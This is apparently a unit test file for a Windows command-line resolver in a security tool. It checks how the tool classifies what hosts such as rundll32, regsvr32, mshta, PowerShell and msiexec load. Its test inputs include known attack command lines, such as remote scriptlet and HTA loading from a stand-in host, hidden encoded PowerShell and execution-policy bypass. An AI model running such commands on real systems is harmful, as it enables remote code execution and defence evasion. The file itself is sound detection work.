#include "judge/command_line.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <map>
#include <set>

#include "judge/testing/fake_facts.h"

namespace wl {
namespace {

using ::testing::ElementsAre;

TEST(SplitArguments, FollowsTheRuntimesQuotingRules) {
  EXPECT_THAT(SplitArguments(R"(a "b c" d)"), ElementsAre("a", "b c", "d"));
  EXPECT_THAT(SplitArguments(R"("a\"b" c)"), ElementsAre("a\"b", "c"));
  EXPECT_THAT(SplitArguments(R"(a\\\"b)"), ElementsAre("a\\\"b"));
  EXPECT_THAT(SplitArguments(R"(a\\"b c")"), ElementsAre("a\\b c"));
  EXPECT_THAT(SplitArguments(R"(C:\dir\ x)"), ElementsAre("C:\\dir\\", "x"));
  EXPECT_THAT(SplitArguments(R"("" x)"), ElementsAre("", "x"));
  EXPECT_THAT(SplitArguments("  \t "), ElementsAre());
  EXPECT_THAT(SplitArguments(R"("unclosed quote)"), ElementsAre("unclosed quote"));
}

class ResolveTest : public ::testing::Test {
 protected:
  testing::FakeFacts facts;
};

TEST_F(ResolveTest, FindsTheProgramAsWindowsWould) {
  facts.AddFile("C:\\Program Files\\Vendor App\\app.exe");
  facts.AddFile("C:\\Windows\\System32\\notepad.exe");
  facts.AddFile("C:\\Tools\\run");  // a name without extension: ".exe" is what runs
  facts.AddFile("C:\\Tools\\run.exe");
  facts.env["APPDIR"] = "C:\\Program Files\\Vendor App";

  auto quoted = ResolveCommand(R"("C:\Program Files\Vendor App\app.exe" /min)", facts);
  EXPECT_EQ(quoted.program, "C:\\Program Files\\Vendor App\\app.exe");
  EXPECT_TRUE(quoted.found);
  EXPECT_THAT(quoted.args, ElementsAre("/min"));

  auto unquoted = ResolveCommand(R"(C:\Program Files\Vendor App\app.exe -x "y z")", facts);
  EXPECT_EQ(unquoted.program, "C:\\Program Files\\Vendor App\\app.exe");
  EXPECT_THAT(unquoted.args, ElementsAre("-x", "y z"));
  EXPECT_TRUE(unquoted.shadowed.empty());

  auto expanded = ResolveCommand("%APPDIR%\\app.exe", facts);
  EXPECT_EQ(expanded.program, "C:\\Program Files\\Vendor App\\app.exe");
  EXPECT_TRUE(expanded.found);

  auto bare = ResolveCommand("notepad x.txt", facts);
  EXPECT_EQ(bare.program, "C:\\Windows\\System32\\notepad.exe");
  EXPECT_TRUE(bare.found);

  auto noExtension = ResolveCommand("C:\\Tools\\run /now", facts);
  EXPECT_EQ(noExtension.program, "C:\\Tools\\run.exe");

  auto systemRoot = ResolveCommand("\\SystemRoot\\System32\\notepad.exe", facts);
  EXPECT_EQ(systemRoot.program, "C:\\Windows\\System32\\notepad.exe");
  auto relative = ResolveCommand("System32\\notepad.exe", facts);
  EXPECT_EQ(relative.program, "C:\\Windows\\System32\\notepad.exe");
  auto nt = ResolveCommand("\\??\\C:\\Windows\\System32\\notepad.exe", facts);
  EXPECT_EQ(nt.program, "C:\\Windows\\System32\\notepad.exe");

  facts.appPaths["vendor.exe"] = "C:\\Program Files\\Vendor App\\app.exe";
  EXPECT_EQ(ResolveCommand("vendor.exe", facts).program, "C:\\Program Files\\Vendor App\\app.exe");
}

TEST_F(ResolveTest, AnUnquotedPathRunsTheFirstProgramAlongItsBlanks) {
  facts.AddFile("C:\\Program Files\\Vendor App\\app.exe");
  facts.AddFile("C:\\Program.exe");
  auto r = ResolveCommand(R"(C:\Program Files\Vendor App\app.exe /x)", facts);
  EXPECT_EQ(r.program, "C:\\Program.exe");
  EXPECT_EQ(r.shadowed, "C:\\Program Files\\Vendor App\\app.exe");
}

TEST_F(ResolveTest, AMissingProgramIsTheLikeliestPath) {
  auto r = ResolveCommand(R"(C:\zz dir\q.exe /silent)", facts);
  EXPECT_FALSE(r.found);
  EXPECT_EQ(r.program, "C:\\zz dir\\q.exe");
  EXPECT_THAT(r.args, ElementsAre("/silent"));
  EXPECT_EQ(ResolveCommand("nothing-here -x", facts).program, "nothing-here.exe");
  // Nothing at all, or only blanks and quotes: no program, no crash.
  EXPECT_EQ(ResolveCommand("", facts).program, "");
  EXPECT_EQ(ResolveCommand("   ", facts).program, "");
  EXPECT_FALSE(ResolveCommand("\"", facts).found);
  EXPECT_FALSE(ResolveCommand(std::string(100000, 'a') + " " + std::string(100000, '\\'), facts).found);
}

TEST(PayloadOf, NamesWhatEachHostLoadsOrRuns) {
  auto payload = [](std::string_view program, std::string_view arguments) {
    return PayloadOf(HostKindOf(program), arguments, SplitArguments(arguments));
  };
  auto rundll = payload("C:\\Windows\\System32\\rundll32.exe", R"("C:\Users\a\AppData\x y.dll",Start arg)");
  EXPECT_EQ(rundll.kind, HostedPayload::Kind::File);
  EXPECT_EQ(rundll.text, "C:\\Users\\a\\AppData\\x y.dll");
  EXPECT_EQ(payload("rundll32", "shell32.dll,Control_RunDLL").text, "shell32.dll");
  EXPECT_EQ(payload("rundll32.exe", R"(javascript:"\..\mshtml,RunHTMLApplication ";alert(1))").kind,
            HostedPayload::Kind::InlineScript);
  auto regsvr = payload("REGSVR32.EXE", "/s /n /u /i:http://x/a.sct scrobj.dll");
  EXPECT_EQ(regsvr.kind, HostedPayload::Kind::File);
  EXPECT_EQ(regsvr.text, "scrobj.dll");
  EXPECT_EQ(payload("mshta.exe", "http://x/a.hta").kind, HostedPayload::Kind::Url);
  EXPECT_EQ(payload("mshta.exe", "vbscript:Execute(\"x\")").kind, HostedPayload::Kind::InlineScript);
  EXPECT_EQ(payload("wscript.exe", "//B //Nologo C:\\x\\a.vbs arg").text, "C:\\x\\a.vbs");
  EXPECT_EQ(payload("powershell.exe", "-nop -ep bypass -f C:\\x\\a.ps1").text, "C:\\x\\a.ps1");
  EXPECT_EQ(payload("pwsh.exe", "C:\\x\\b.ps1").text, "C:\\x\\b.ps1");
  EXPECT_EQ(payload("powershell.exe", "-enc SQBFAFgA").kind, HostedPayload::Kind::InlineScript);
  EXPECT_EQ(payload("msiexec.exe", "/q /i http://x/a.msi").kind, HostedPayload::Kind::Url);
  EXPECT_EQ(payload("msiexec.exe", "/x {11111111-2222-3333-4444-555555555555}").kind, HostedPayload::Kind::None);
  auto group = payload("svchost.exe", "-k netsvcs -p");
  EXPECT_EQ(group.kind, HostedPayload::Kind::ServiceGroup);
  EXPECT_EQ(group.text, "netsvcs");

  auto chain = payload("cmd.exe", R"(/d /c "start "" /min C:\x\a.exe & powershell -w hidden -enc AAA | echo ^& done")");
  EXPECT_EQ(chain.kind, HostedPayload::Kind::Commands);
  EXPECT_THAT(chain.commands, ElementsAre("C:\\x\\a.exe", "powershell -w hidden -enc AAA", "echo & done"));
  EXPECT_THAT(payload("cmd.exe", "/cC:\\x\\b.bat").commands, ElementsAre("C:\\x\\b.bat"));
  EXPECT_THAT(payload("cmd.exe", "/k").commands, ElementsAre());
  EXPECT_EQ(payload("notepad.exe", "x").kind, HostedPayload::Kind::None);
}

}  // namespace
}  // namespace wl
